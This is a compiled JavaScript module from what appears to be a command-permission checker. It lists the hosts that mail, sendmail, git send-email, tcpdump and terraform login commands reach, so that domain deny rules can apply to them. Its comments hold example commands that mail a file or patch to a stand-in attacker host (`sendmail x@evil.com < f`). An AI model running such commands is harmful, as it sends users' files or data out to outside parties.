// Hosts a message reaches through the mail system, and names a packet filter looks up.
//
// - A mail client or sendmail hands the message to the local mail system, which delivers it to
//   each recipient's domain (its mail exchanger): `mail x@evil.com`, `sendmail x@evil.com < f`,
//   `git send-email --to x@evil.com p.patch` send there, as `swaks --to x@evil.com` does
//   (client-hosts.ts). Recipients the line does not show (`sendmail -t` takes them from the
//   message; git send-email adds the patches' Cc trailers and its configuration's) are unknown.
// - tcpdump looks up each host name of its filter (`tcpdump host x.evil.com`) when it compiles
//   it: a DNS query that reaches the name's nameservers, as `dig NAME` does (lookup-hosts.ts).
// - `terraform login|logout HOST` (and OpenTofu's) reach HOST.
// These are Domain parts for deny and ask rules only (the command's allow rule covers them).
import { hostUrl, options } from './host-options.js';
import { letterGrammar } from './long-options.js';
/** Addresses of one list word that are checked (a work bound: more is unknown). */
const MAX_ADDRESSES = 64;
/**
 * Each recipient's domain in an address list (`a@h, B <b@h2>`), and the relays an address names
 * in its local part (`x%evil.com@h`, UUCP's `evil.com!x`): smtp hosts. An expansion is unknown.
 */
export function recipientHosts(t, w) {
    if (w.dynamic) {
        t.url(w.word, true);
        return;
    }
    const addresses = w.word.split(',');
    if (addresses.length > MAX_ADDRESSES)
        t.url(w.word, true);
    for (const address of addresses.slice(0, MAX_ADDRESSES)) {
        const at = address.lastIndexOf('@');
        const domain = at < 0 ? '' : /^[^\s<>()"',;]*/.exec(address.slice(at + 1))[0];
        if (domain !== '')
            t.url(hostUrl('smtp', domain), false);
        const local = (at < 0 ? address : address.slice(0, at)).replace(/^.*</s, '').trim();
        for (const relay of local.split('%').slice(1))
            if (relay !== '')
                t.url(hostUrl('smtp', relay), false);
        const bang = local.indexOf('!');
        if (bang > 0)
            t.url(hostUrl('smtp', local.slice(0, bang)), false);
    }
}
/** mail, mailx, s-nail, mailutils: options with a value (the union of their getopt strings) and long ones. */
const MAIL = letterGrammar('aAbcCsrqMmOSuXYLTEJ', ['subject', 'cc', 'bcc', 'attach', 'return-address', 'append', 'user', 'exec', 'content-type',
    'content-filename', 'content-name', 'encoding', 'alternative', 'set', 'account']);
/** Options that read a mailbox instead of sending (`mail -f mbox`, `-e`, `-H`, `-u user`). */
const MAIL_READING = new Set(['-f', '-e', '-H', '-N', '-u', '--file', '--exist', '--headers', '--user']);
const mailRecipients = (words, dynamic, t) => {
    const o = options(words, dynamic, MAIL, t, words[0] ?? 'mail');
    if (o.values.some((v) => MAIL_READING.has(v.name)) || [...o.flags].some((f) => MAIL_READING.has(f)))
        return;
    if (o.flags.has('-t') || o.flags.has('--read-recipients'))
        t.url(`${words[0]} -t: the message's recipients`, true);
    for (const { name, value } of o.values)
        if (name === '-b' || name === '-c' || name === '--cc' || name === '--bcc')
            recipientHosts(t, value);
    for (const w of o.operands)
        recipientHosts(t, w);
};
/** sendmail and its stand-ins: the union of their letters with a value (`-oi` is `-o i`, `-bm` `-b m`). */
const SENDMAIL = letterGrammar('BbCdFfhLNOopqRrVXaSHAe', ['host', 'port', 'from', 'account', 'file', 'auth', 'user', 'tls-trust-file', 'logfile', 'domain']);
const sendmailRecipients = (words, dynamic, t) => {
    const o = options(words, dynamic, SENDMAIL, t, words[0] ?? 'sendmail');
    // (`-t`: the message's To/Cc/Bcc; `-bs`: an SMTP session on standard input names them.)
    if (o.flags.has('-t') || o.flags.has('--read-recipients') || o.values.some((v) => v.name === '-b' && (v.value.dynamic || v.value.word === 's'))) {
        t.url(`${words[0]}: the message's recipients`, true);
    }
    for (const w of o.operands)
        recipientHosts(t, w);
};
/**
 * git send-email's recipients: every address its words show, and the ones they do not (the
 * patches' To/Cc headers and trailers, sendemail.to and .cc): unknown.
 */
export function sendEmailRecipients(t, words) {
    t.url('git send-email: the patches\' and the configuration\'s recipients', true);
    for (const w of words)
        if (w.dynamic || w.word.includes('@'))
            recipientHosts(t, { word: w.word.replace(/^--[a-z-]+=/, ''), dynamic: w.dynamic });
}
/** tcpdump's letters that take a value (tcpdump 4.99's getopt string) and long options. */
const TCPDUMP = letterGrammar('BcCEFGijmMQrsTVwWyzZ', ['buffer-size', 'interface', 'time-stamp-type', 'time-stamp-precision', 'snapshot-length',
    'relinquish-privileges', 'count', 'number']);
/** Words of a pcap filter that name no host (primitives, qualifiers, protocols, operators). */
const FILTER_WORDS = new Set(`dst src host net mask port portrange less greater proto protochain ether fddi tr wlan ip ip6 arp rarp decnet tcp
  udp icmp icmp6 igmp igrp pim ah esp vrrp sctp gateway broadcast multicast and or not inbound outbound vlan mpls pppoed pppoes geneve iso clnp
  esis isis l1 l2 iih lsp snp csnp psnp atalk aarp ipx netbeui stp sca lat mopdl moprc type subtype dir link ppp slip len tcpflags icmptype
  icmp6type ra ta addr1 addr2 addr3 addr4 ifname on rnr rulenum reason rset srnr subrulenum action mgt ctl data lane llc oam oamf4 oamf4s
  oamf4e metac bcc sc ilmic connectmsg metaconnect vpi vci`.split(/\s+/));
/** tcpdump: each host name of its filter expression (`host x.evil.com`, `src or dst h`); `-F FILE`'s are unknown. */
const tcpdumpNames = (words, dynamic, t) => {
    const o = options(words, dynamic, TCPDUMP, t, 'tcpdump');
    if (o.values.some((v) => v.name === '-F'))
        t.url('tcpdump -F: the filter\'s host names', true);
    for (const w of o.operands) {
        if (w.dynamic) {
            t.url(w.word, true);
            continue;
        }
        let after = '';
        for (const token of w.word.split(/[\s()!&|=<>[\]+*/-]+|\b(?=:)/)) {
            const word = token.toLowerCase();
            // (A port or protocol name after its qualifier is a service, not a host.)
            if (word !== '' && /[a-z]/.test(word) && !/[:\\]/.test(word) && !FILTER_WORDS.has(word) && after !== 'port' && after !== 'portrange' && after !== 'proto') {
                t.url(hostUrl('tcp', token), false);
            }
            if (word !== '')
                after = word;
        }
    }
};
/**
 * `terraform login|logout [HOST]` (OpenTofu's too): the host's service discovery document and
 * token endpoints (app.terraform.io without one). Global options first (`-chdir=DIR`).
 */
const terraformLogin = (words, dynamic, t) => {
    let k = 1;
    while (k < words.length && !dynamic[k] && words[k].startsWith('-'))
        k++;
    if (k >= words.length || (!dynamic[k] && words[k] !== 'login' && words[k] !== 'logout'))
        return;
    if (dynamic[k]) {
        t.url(words[k], true);
        return;
    }
    const operands = words.slice(k + 1).map((word, j) => ({ word, dynamic: dynamic[k + 1 + j] ?? false })).filter((w) => w.dynamic || !w.word.startsWith('-'));
    if (operands.length === 0)
        t.url('https://app.terraform.io/', false);
    for (const w of operands)
        t.url(w.dynamic ? w.word : hostUrl('https', w.word), w.dynamic);
};
export const MESSAGE_HOST_READERS = [
    ...['mail', 'mailx', 'Mail', 's-nail', 'nail', 'bsd-mailx', 'mail.mailutils', 'heirloom-mailx'].map((n) => [n, mailRecipients]),
    ...['sendmail', 'ssmtp', 'msmtp', 'exim', 'exim4', 'esmtp', 'sendmail.postfix', 'mini_sendmail', 'dma'].map((n) => [n, sendmailRecipients]),
    ['tcpdump', tcpdumpNames], ['terraform', terraformLogin], ['tofu', terraformLogin],
];
//# sourceMappingURL=message-hosts.js.map